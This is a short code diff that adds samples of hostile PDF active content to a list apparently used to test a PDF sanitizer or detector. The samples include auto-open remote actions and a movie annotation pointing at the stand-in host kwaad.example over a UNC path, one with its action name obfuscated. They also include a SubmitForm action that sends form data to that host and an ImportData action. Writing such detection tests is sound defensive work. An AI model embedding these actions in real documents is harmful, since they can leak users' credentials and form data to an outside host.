@@ -86,6 +86,11 @@ ACTIVE = [
     b"<</Names<</EmbeddedFiles<</Names[(a)9 0 R]>>>>>>",
     b"<</Subtype/FileAttachment/FS 9 0 R>>",
     b"<</Subtype/RichMedia>>",
+    b"<</OpenAction<</S/GoToR/F(\\\\\\\\kwaad.example\\\\x)/D[0/Fit]>>>>",
+    b"<</OpenAction<</S/Go#54oE/F(\\\\\\\\kwaad.example\\\\x)>>>>",
+    b"<</A<</S/SubmitForm/F(https://kwaad.example/)>>>>",
+    b"<</A<</S/ImportData/F(x.fdf)>>>>",
+    b"<</Subtype/Movie/Movie<</F(\\\\\\\\kwaad.example\\\\x)>>>>",
     b"<</AcroForm<</XFA[(a)9 0 R]>>>>",
 ]
 
